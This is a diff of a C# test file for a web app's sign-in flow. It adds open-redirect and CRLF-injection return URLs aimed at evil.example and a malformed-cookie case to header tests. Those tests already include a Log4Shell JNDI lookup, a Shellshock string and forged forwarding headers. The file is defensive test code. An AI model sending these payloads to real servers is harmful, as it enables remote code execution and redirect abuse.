@@ -31,13 +31,18 @@ public sealed class RequestTests
         Quiet(host);
     }
 
-    [Fact]
-    public async Task SignIn_WithAWayBackInChinese_LeadsThere()
+    [Theory]
+    [InlineData("/appeals?Kind=噪音", "/appeals?Kind=%E5%99%AA%E9%9F%B3")]
+    [InlineData("/\t/evil.example", "/")]
+    [InlineData("/appeals\r\nX-Helex: 1", "/")]
+    [InlineData("//evil.example/列表", "/")]
+    public async Task SignIn_WithAnyWayBack_LeadsThereOrHome(string back, string expected)
     {
         await using var host = await TestHost.Start(TestDatabase.Sqlite, listens: true);
-        var page = await HtmlPage.Get(host.Browser(), "/sign-in?return=" + Uri.EscapeDataString("/appeals?Kind=噪音"));
+        var page = await HtmlPage.Get(host.Browser(), "/sign-in?return=" + Uri.EscapeDataString(back));
         var answer = await page.Form("main form").Fill("Input.Name", TestPeople.Liu.SignIn).Fill("Input.Password", TestPeople.Password).Submit();
-        answer.ExpectRedirect("/appeals?Kind=%E5%99%AA%E9%9F%B3");
+        answer.ExpectRedirect(expected);
+        Quiet(host);
     }
 
     /// <summary>Names an address can't be made of, and forwarding words of somebody who is no proxy of ours.</summary>
@@ -49,6 +54,7 @@ public sealed class RequestTests
     [InlineData("Host: localhost\r\nX-Forwarded-Host: evil.example\r\nX-Forwarded-Proto: https\r\nX-Forwarded-Prefix: /evil.example\r\nX-Original-URL: //evil.example\r\nX-Rewrite-URL: //evil.example\r\nForwarded: host=evil.example;proto=https", 302)]
     [InlineData("Host: localhost\r\nAccept-Language: en;q=zz,,;;q=,zh;q=1e400", 302)]
     [InlineData("Host: localhost\r\nCookie: hele-session=x; hele-session=%00; hele-form=CfDJ8; hele-place=-1; hele-place=9999999999999; hele-lang=\"<helex>\"; hele-device=AAAA; hele-said=AAAA; =; ;;", 302)]
+    [InlineData("Host: localhost\r\nCookie: hele-session=chunks-2147483647; hele-sessionC1=a; hele-said=chunks-3; hele-saidC1=a; hele-form=chunks--1", 302)]
     [InlineData("Host: localhost\r\nIf-Modified-Since: never\r\nIf-None-Match: \"x\r\nIf-Match: *\r\nIf-Unmodified-Since: 0\r\nRange: bytes=9-1,-0,0-99999999999999999999\r\nIf-Range: \"x", 302)]
     [InlineData("Host: localhost\r\nSec-Fetch-Site: \r\nOrigin: null\r\nReferer: javascript:helex()\r\nUser-Agent: ${jndi:ldap://evil.example/a} () { :;}; echo helex <helex>\r\nTE: trailers\r\nExpect: helex", 302)]
     public async Task OddHeaders_OfAPageThatNeedsSigningIn_LeadToSigningInOrAreRefused(string headers, int status)
